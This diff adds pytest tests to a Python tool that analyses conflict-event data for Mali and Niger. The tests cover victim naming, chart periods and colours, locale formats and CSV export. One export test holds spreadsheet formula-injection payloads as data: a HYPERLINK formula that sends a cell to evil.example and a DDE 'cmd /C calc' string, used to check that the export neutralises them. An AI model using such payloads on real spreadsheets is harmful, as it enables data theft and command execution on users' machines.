@@ -326,3 +326,248 @@ def test_csv_starts_with_title_and_attribution_lines():
                             title="T").decode()
     assert imported.splitlines()[:3] == ["# T", "# ACLED, accessed 2026-11-01",
                                          "# Filters applied: none."]
+
+
+# --- victims are not actors ---------------------------------------------------------------------
+
+@pytest.mark.parametrize("name, victim", [
+    ("Civilians (Mali)", True),  # ACLED's civilian actor (actor type 7)
+    ("Civilians (International)", True),
+    ("Civilians", True),  # UCDP one-sided violence, side B
+    ("civilians", True),
+    ("Fulani civilians", True),
+    ("Daoussahak Tuareg civilians", True),
+    ("Muslim worshippers", True),
+    ("passengers of the COMANAV boat 'Tombouctou'", True),
+    ("villageois de Solhan", True),
+    ("civilians and soldiers (accused)", False),  # head noun: soldiers
+    ("Civilian JTF", False),
+    ("JNIM", False),
+    ("Malian Armed Forces (FAMa)", False),
+    ("Government of Mali", False),
+    ("", False),
+])
+def test_victims_are_named_by_their_head_noun(name, victim):
+    assert an.is_victim(name) is victim
+
+
+def test_victims_are_ranked_apart_never_among_actors():
+    df = make([
+        {"actors": "JNIM; Civilians (Mali)", "fatalities_low": 40},
+        {"actors": "JNIM; Fulani civilians", "fatalities_low": 12},
+        {"actors": "FAMa; civilians", "fatalities_low": 5},
+        {"actors": "Civilians (Burkina Faso); Civilians (Mali)"},
+    ])
+    actors = an.top_actors(df, n=10)
+    assert actors["actor"].tolist() == ["JNIM", "FAMa"]
+    assert actors.set_index("actor").loc["JNIM", "fatalities_high"] == 52
+    victims = an.top_actors(df, n=10, victims=True).set_index("actor")
+    assert set(victims.index) == {"Civilians (Mali)", "Fulani civilians", "civilians",
+                                  "Civilians (Burkina Faso)"}
+    assert victims.loc["Civilians (Mali)", "events"] == 2
+
+
+# --- periods of the trend charts ----------------------------------------------------------------
+
+def test_fourteen_years_are_shown_per_quarter_and_longer_spans_per_year():
+    assert an.choose_period(pd.Timestamp("2023-01-01"), pd.Timestamp("2025-12-01")) == "month"
+    assert an.choose_period(pd.Timestamp("2012-01-01"), pd.Timestamp("2026-04-01")) == "quarter"
+    assert an.choose_period(pd.Timestamp("1997-01-01"), pd.Timestamp("2026-04-01")) == "year"
+    # Exactly MAX_BARS months is still monthly; one more is not.
+    assert an.choose_period(pd.Timestamp("2020-01-01"), pd.Timestamp("2024-12-01")) == "month"
+    assert an.choose_period(pd.Timestamp("2020-01-01"), pd.Timestamp("2025-01-01")) == "quarter"
+
+
+def test_period_series_sums_months_into_quarters_and_years():
+    df = make([
+        {"date": "2023-01-10", "country_iso3": "MLI", "fatalities_low": 2,
+         "fatalities_high": 5},
+        {"date": "2023-03-31", "country_iso3": "MLI", "fatalities_low": 1},
+        {"date": "2023-04-01", "country_iso3": "NER"},
+    ])
+    monthly = an.monthly_series(df, "country_iso3")
+    quarters = an.period_series(monthly, "quarter").set_index(["month", "group"])
+    assert quarters.loc[(pd.Timestamp("2023-01-01"), "MLI")].tolist() == [2, 3, 6, 0]
+    assert quarters.loc[(pd.Timestamp("2023-04-01"), "NER")].tolist() == [1, 0, 0, 1]
+    assert quarters.loc[(pd.Timestamp("2023-04-01"), "MLI")].tolist() == [0, 0, 0, 0]
+    years = an.period_series(monthly, "year")
+    assert years["events"].sum() == 3 and set(years["month"]) == {pd.Timestamp("2023-01-01")}
+    assert an.period_label(pd.Timestamp("2023-04-01"), "quarter") == "2023-Q2"
+    table = an.series_table(an.period_series(monthly, "quarter"), "events", "quarter")
+    assert list(table.index) == ["2023-Q1", "2023-Q2"]
+
+
+def test_milestone_rules_carry_the_country_of_a_coup():
+    from geo.facts import load_timeline
+
+    rules = an.milestone_rules(load_timeline()).set_index("id")
+    assert rules.loc["niger-coup-2023", "country_iso3"] == "NER"
+    assert rules.loc["mali-coup-2020", "country_iso3"] == "MLI"
+
+
+# --- downloads: no formula reaches a spreadsheet ----------------------------------------------
+
+HOSTILE_ACTORS = ['=HYPERLINK("http://evil.example/?"&A1,"click")',
+                  "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3"]
+
+
+def test_analysis_csv_neutralises_formulas_in_every_cell_and_the_index():
+    import csv
+    import io
+
+    df = make([{"actors": "; ".join(HOSTILE_ACTORS), "fatalities_low": 3}])
+    top = an.top_actors(df, n=10)
+    assert set(top["actor"]) == set(HOSTILE_ACTORS)
+    text = an.csv_bytes(top, ["Dataset '=cmd'."], title="@title").decode()
+    rows = list(csv.reader(io.StringIO("\n".join(
+        line for line in text.splitlines() if not line.startswith("#")))))
+    assert rows[0] == ["actor", "events", "fatalities_low", "fatalities_high",
+                       "fatalities_unknown"]
+    for row in rows[1:]:
+        assert row[0].startswith("'") and row[0][1] in "=@+-"
+        assert row[1:] == ["1", "3", "3", "0"]  # numbers stay numbers
+    assert text.startswith("# @title\n# Dataset '=cmd'.\n")  # comment lines start with #
+    # A table with an index (the before/after table): the index is a column, neutralised.
+    indexed = pd.DataFrame({"events_change": [-4]},
+                           index=pd.Index(["=1+1"], name="area"))
+    lines = an.csv_bytes(indexed, index=True).decode().splitlines()
+    assert lines == ["area,events_change", "'=1+1,-4"]
+
+
+# --- the charts' specs (geo.ui.analysis): colours, labels, formats ------------------------------
+
+def _trend_series(lang: str) -> pd.DataFrame:
+    from geo.countries import country_name
+
+    df = make([{"date": "2012-01-05", "country_iso3": "NER"},
+               {"date": "2026-04-01", "country_iso3": "MLI"},
+               {"date": "2020-06-01", "country_iso3": "other"}])
+    series = an.period_series(an.monthly_series(df, "country_iso3"), "quarter")
+    labels = {"other": "Hors AES" if lang == "fr" else "Outside the AES"}
+    return series.assign(group_label=series["group"].map(
+        lambda c: labels.get(c) or country_name(c, lang)))
+
+
+def _walk(spec):
+    """Every dict in a Vega-Lite spec, depth first."""
+    if isinstance(spec, dict):
+        yield spec
+        for value in spec.values():
+            yield from _walk(value)
+    elif isinstance(spec, list):
+        for value in spec:
+            yield from _walk(value)
+
+
+def _colour_by_label(spec: dict) -> dict[str, str]:
+    for node in _walk(spec):
+        color = node.get("color") if isinstance(node.get("color"), dict) else None
+        if color and color.get("field") == "group_label":
+            scale = color["scale"]
+            return dict(zip(scale["domain"], scale["range"], strict=True))
+    raise AssertionError("no group colour scale")
+
+
+def test_a_country_has_one_colour_in_every_chart_and_language():
+    from geo import palette
+    from geo.facts import load_timeline
+    from geo.ui import analysis as ui_an
+
+    rules = an.milestone_rules(load_timeline())
+    by_lang = {}
+    for lang in ("en", "fr"):
+        series = _trend_series(lang)
+        for chart in (ui_an.events_chart, ui_an.fatalities_chart):
+            spec = chart(series, rules, lang, "Country", "country_iso3", "quarter").to_dict()
+            colours = _colour_by_label(spec)
+            by_lang.setdefault(lang, []).append(colours)
+    for lang, (events, fatalities) in by_lang.items():
+        assert events == fatalities
+        other = "Hors AES" if lang == "fr" else "Outside the AES"
+        assert events["Mali"] == palette.country_colour("MLI")
+        assert events["Niger"] == palette.country_colour("NER")
+        assert events[other] == palette.OTHER_COUNTRY_COLOUR
+    # Same colours, whatever the labels read.
+    assert sorted(by_lang["en"][0].values()) == sorted(by_lang["fr"][0].values())
+
+
+def test_trend_bars_follow_the_period_and_rules_carry_labels():
+    from geo.facts import load_timeline
+    from geo.ui import analysis as ui_an
+
+    rules = an.milestone_rules(load_timeline())
+    spec = ui_an.events_chart(_trend_series("fr"), rules, "fr", "Pays", "country_iso3",
+                              "quarter").to_dict()
+    assert any(n.get("timeUnit") == "yearquarter" for n in _walk(spec))
+    texts = [n for n in _walk(spec) if n.get("type") == "text" or n.get("mark") == "text"
+             or (isinstance(n.get("mark"), dict) and n["mark"].get("type") == "text")]
+    assert texts, "the milestone lines have no text labels"
+    datasets = spec["datasets"].values()
+    labels = {row["label"] for rows in datasets for row in rows if "label" in row}
+    assert {"Coup d'État, Niger", "Charte du Liptako-Gourma",
+            "Sortie de la CEDEAO effective"} <= labels
+
+
+def test_rule_labels_never_overlap():
+    from geo.ui import analysis as ui_an
+
+    dates = pd.Series(pd.to_datetime(["2020-08-18", "2021-05-24", "2023-07-26", "2023-09-16",
+                                      "2023-09-20", "2024-01-28", "2025-01-29"]))
+    start, end = pd.Timestamp("2012-01-01"), pd.Timestamp("2026-06-30")
+    width = 700
+    placed = ui_an.rule_lanes(dates, start, end, width)
+    spans = []
+    for when, row in zip(dates, placed.itertuples(), strict=True):
+        x = (when - start).days / (end - start).days * width
+        lo, hi = (x - ui_an.RULE_LABEL_PX, x) if row.side == "left" else (
+            x, x + ui_an.RULE_LABEL_PX)
+        spans.append((row.lane, lo, hi))
+    for i, (lane, lo, hi) in enumerate(spans):
+        for lane2, lo2, hi2 in spans[i + 1:]:
+            assert lane != lane2 or hi <= lo2 or hi2 <= lo
+    assert placed["lane"].max() >= 1  # three rules within days need a second lane
+
+
+def test_charts_use_the_readers_number_format_and_svg():
+    from geo.ui import analysis as ui_an
+
+    top = pd.DataFrame({"actor": ["JNIM"], "events": [1200], "fatalities_low": [3],
+                        "fatalities_high": [4], "fatalities_unknown": [0]})
+    fr = ui_an.actors_chart(top, "events", "fr").to_dict()
+    number = fr["config"]["locale"]["number"]
+    assert (number["thousands"], number["decimal"]) == ("\u202f", ",")
+    assert fr["config"]["locale"]["time"]["shortMonths"][8] == "sept."
+    assert fr["config"]["locale"]["time"]["days"][0] == "dimanche"
+    en = ui_an.actors_chart(top, "events", "en").to_dict()["config"]["locale"]["number"]
+    assert (en["thousands"], en["decimal"]) == (",", ".")
+    assert fr["usermeta"]["embedOptions"]["renderer"] == "svg"
+    # Every actor bar keeps its label.
+    assert fr["encoding"]["y"]["axis"]["labelOverlap"] is False
+
+
+def test_bands_and_choropleth_take_the_palette():
+    from geo import palette
+    from geo.ui import analysis as ui_an
+
+    table = pd.DataFrame({"year": [2023] * 5, "band": list(an.BAND_LABELS),
+                          "events": [1] * 5, "fatalities_low": [0] * 5,
+                          "fatalities_high": [0] * 5, "share_events": [0.2] * 5,
+                          "share_fatalities_low": [np.nan] * 5,
+                          "share_fatalities_high": [np.nan] * 5})
+    spec = ui_an.bands_chart(table, "share_events", "fr").to_dict()
+    scale = spec["encoding"]["color"]["scale"]
+    assert scale["range"] == list(palette.BAND_COLOURS)
+    assert scale["domain"][0] == "0–50 km" and scale["domain"][-1] == "400 km et plus"
+    breaks = ui_an.class_breaks(50)
+    assert ui_an.color_for(0, breaks) == palette.ZERO_COLOUR
+    assert [ui_an.color_for(b, breaks) for b in breaks] == list(palette.SEQUENTIAL)
+    legend = ui_an.legend_html(ui_an.class_breaks(5000), "fr")
+    assert "1\u202f001–2\u202f000" in legend
+
+
+def test_tables_show_numbers_in_the_readers_format():
+    from geo.ui import analysis as ui_an
+
+    frame = pd.DataFrame({"Événements": [1253], "Part": [0.456], "Nom": ["=x"]})
+    html = ui_an.number_table(frame, "fr", percent=["Part"]).to_html()
+    assert "1\u202f253" in html and "45,6\u202f%" not in html and "46\u202f%" in html
